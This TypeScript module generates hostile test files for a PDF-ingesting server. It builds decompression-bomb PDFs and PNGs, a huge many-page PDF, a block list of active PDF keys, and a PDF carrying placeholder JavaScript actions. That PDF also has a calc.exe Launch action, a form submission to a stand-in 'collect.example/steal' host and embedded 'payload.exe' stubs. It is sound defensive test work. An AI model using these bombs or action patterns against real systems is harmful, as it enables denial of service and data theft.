import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict } from 'pdf-lib';

/**
 * Files made to hurt a server that reads them: each is small or ordinary-looking and asks for a
 * lot of work or memory, or carries things a PDF sent to a dealer must not. Written byte by byte,
 * so each is exactly what its name says.
 */

/** A PDF from raw object bodies (1 is the catalog), with a correct cross-reference table. */
function rawPdf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(length);
    const chunk = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(chunk);
    length += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)].join(
    '',
  );
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const stream = (content: Buffer, compressed: boolean) =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length}${compressed ? ' /Filter /FlateDecode' : ''} >>\nstream\n`, 'latin1'),
    content,
    Buffer.from('\nendstream', 'latin1'),
  ]);

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** `pages` blank pages sharing one content stream: 55,000 make about 4 MB. */
export function manyPagePdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, index) => `${index + 4} 0 R`).join(' ');
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>';
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    stream(Buffer.from('0 0 m'), false),
    ...Array<string>(pages).fill(page),
  ]);
}

/** One page whose compressed text is `word` shown `times` times, a line each (15,000 × "Total:" is about 1.5 KB). */
export function repeatedWordPdf(word: string, times: number): Buffer {
  const line = `(${word}) Tj 0 -1 Td\n`;
  const content = deflateSync(Buffer.from(`BT /F1 1 Tf 72 780 Td\n${line.repeat(times)}ET`, 'latin1'), { level: 9 });
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    FONT,
    stream(content, true),
  ]);
}

/** One page whose content stream inflates to `megabytes` MiB of text (200 MiB compress to well under a megabyte). */
export async function textBombPdf(megabytes: number): Promise<Buffer> {
  const block = Buffer.from(`(Repair order text that goes on and on and on and on and on and on) Tj\n`.repeat(1024), 'latin1');
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  deflate.write('BT /F1 10 Tf 72 720 Td\n');
  for (let written = 0; written < megabytes * 1024 * 1024; written += block.length) {
    if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end('ET');
  await done;
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    FONT,
    stream(Buffer.concat(chunks), true),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** A white greyscale PNG of this size: 20000 × 20000 is about 400 KB that decodes to 400 MB (1.6 GB as RGBA). */
export async function hugePng(width: number, height: number): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const row = Buffer.alloc(width + 1, 0xff);
  row[0] = 0;
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  for (let y = 0; y < height; y += 1) if (!deflate.write(row)) await new Promise((resolve) => deflate.once('drain', resolve));
  deflate.end();
  await done;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.concat(chunks)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Keys and action types a PDF sent to a dealer must not hold anywhere. */
export const ACTING_PDF_NAMES = ['JS', 'JavaScript', 'AA', 'OpenAction', 'Launch', 'SubmitForm', 'URI', 'EmbeddedFiles', 'XFA', 'AcroForm'];

/**
 * A PDF that shows "Visible evidence text" and a filled-in form field reading "Field value
 * 4417", and that also tries to act: a document open action and document JavaScript, an
 * embedded file, an XFA form, a page-open action, links running JavaScript, launching a
 * program, submitting a form and opening an address, and a form field with its own actions.
 */
export async function actingPdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([612, 792]);
  page.drawText('Visible evidence text', { x: 72, y: 700, size: 18, font });
  const context = pdf.context;
  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });

  // A filled-in field whose appearance shows its value; flattening must keep that text.
  const appearance = context.register(
    context.flateStream('BT /Helv 12 Tf 2 6 Td (Field value 4417) Tj ET', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 200, 24],
      Resources: { Font: { Helv: font.ref } },
    }),
  );
  const widget = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Tx',
      T: PDFString.of('amount'),
      V: PDFString.of('Field value 4417'),
      Rect: [72, 600, 272, 624],
      AP: { N: appearance },
      AA: { K: js('app.alert("keystroke")'), F: js('app.alert("format")') },
    }),
  );
  const link = (action: PDFDict, y: number) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, y, 300, y + 20], Border: [0, 0, 0], A: action }));
  const annotations = [
    widget,
    link(js('app.alert("link")'), 500),
    link(context.obj({ S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') }), 470),
    link(context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://collect.example/steal') } }), 440),
    link(context.obj({ S: 'URI', URI: PDFString.of('https://phish.example/login') }), 410),
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [400, 700, 420, 720],
        FS: { Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: context.register(context.flateStream('MZ payload')) } },
      }),
    ),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert("page open")'), C: js('app.alert("page close")') }));

  pdf.catalog.set(PDFName.of('OpenAction'), js('app.alert("document open")'));
  pdf.catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('startup'), js('app.alert("names")')] },
      EmbeddedFiles: {
        Names: [PDFString.of('payload.exe'), { Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: context.register(context.flateStream('MZ')) } }],
      },
    }),
  );
  const fields = context.obj([widget]);
  pdf.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: fields, XFA: context.register(context.flateStream('<xdp:xdp>script</xdp:xdp>')) }));
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}
